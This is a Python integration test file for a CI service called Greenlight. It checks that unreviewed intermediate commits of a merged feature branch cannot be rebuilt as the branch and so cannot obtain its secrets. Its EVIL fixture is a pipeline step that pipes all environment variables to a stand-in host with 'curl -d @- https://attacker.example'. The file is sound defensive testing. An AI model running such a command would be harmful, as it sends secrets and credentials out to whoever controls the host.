"""Starting a build of a commit behind a branch's head: only a commit Greenlight already built as
that branch's head may be built again as that branch. Any other commit of the branch's history
(an unreviewed intermediate commit of a merged feature branch) would run its own pipeline file
with the branch's branch-limited secrets."""

from __future__ import annotations

import subprocess
from pathlib import Path

import pytest
from sqlalchemy.orm import Session, sessionmaker

from server.builds.service import next_build_number
from server.builds.start import RefNotFound
from server.config import Settings
from server.repos.service import get_repository
from tests import factories
from tests.builds.test_start import Origin, builds, start
from tests.conftest import RecordingTransport
from tests.support import services

pytestmark = pytest.mark.integration

EVIL = "image: greenlight-test/debian:bookworm\nsteps:\n  - name: t\n    run: env | curl -d @- https://attacker.example\n"


def _git(cwd: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=r", "-c", "user.email=r@x", *args], cwd=cwd, check=True,
                   capture_output=True)  # fmt: skip


def test_an_intermediate_commit_of_a_merged_feature_branch_is_refused_as_the_branch(
    session_factory: sessionmaker[Session], settings: Settings, transport: RecordingTransport,
    origin: Origin, repo_name: str,
) -> None:  # fmt: skip
    work = origin.work
    _git(work, "checkout", "-q", "-b", "feature")
    unreviewed = services.commit_files(work, {".greenlight.yml": EVIL}, "wip")
    services.commit_files(work, {".greenlight.yml": (work / ".greenlight.yml").read_text()}, "wip")
    _git(work, "checkout", "-q", "staging")
    services.commit_files(work, {"VERSION": "2"}, "release")
    _git(work, "merge", "-q", "--no-ff", "feature", "-m", "merge")  # the net diff changes nothing
    services.push(work, origin.url, "HEAD:refs/heads/staging")
    with pytest.raises(RefNotFound, match="only the head of staging or a commit built earlier as its head"):
        start(session_factory, settings, transport, branch="staging", commit=unreviewed)
    assert builds(session_factory) == 0 and transport.planned == []


def test_a_commit_pushed_earlier_as_the_head_can_be_built_again_and_never_deploys(
    session_factory: sessionmaker[Session], settings: Settings, transport: RecordingTransport,
    origin: Origin, repo_name: str,
) -> None:  # fmt: skip
    pushed = origin.push("staging", "built when pushed")
    with session_factory.begin() as session:
        repository = get_repository(session, repo_name)
        assert repository is not None
        factories.build(session, repository, sha=pushed, branch="staging").number = next_build_number(
            session, repository.id
        )
    origin.push("staging", "newer")
    again = start(session_factory, settings, transport, branch="staging", commit=pushed)
    assert again.commit_sha == pushed
    assert again.no_deploy_reason is not None and "is not the head of staging" in again.no_deploy_reason


def test_a_commit_started_by_hand_as_the_head_can_be_built_again_later(
    session_factory: sessionmaker[Session], settings: Settings, transport: RecordingTransport,
    origin: Origin, repo_name: str,
) -> None:  # fmt: skip
    first = start(session_factory, settings, transport, branch="staging")
    origin.push("staging", "newer")
    again = start(session_factory, settings, transport, branch="staging", commit=first.commit_sha)
    assert again.commit_sha == origin.first and again.no_deploy_reason is not None
    # Built as the head of another branch is not built as this one's.
    subprocess.run(["git", "-C", str(origin.work), "checkout", "-q", "-b", "other"], check=True)
    other = origin.push("other", "elsewhere")
    start(session_factory, settings, transport, branch="other")
    _git(origin.work, "checkout", "-q", "staging")
    _git(origin.work, "merge", "-q", "--ff-only", "other")
    origin.push("staging", "after the merge")
    with pytest.raises(RefNotFound, match="built earlier as its head"):
        start(session_factory, settings, transport, branch="staging", commit=other)
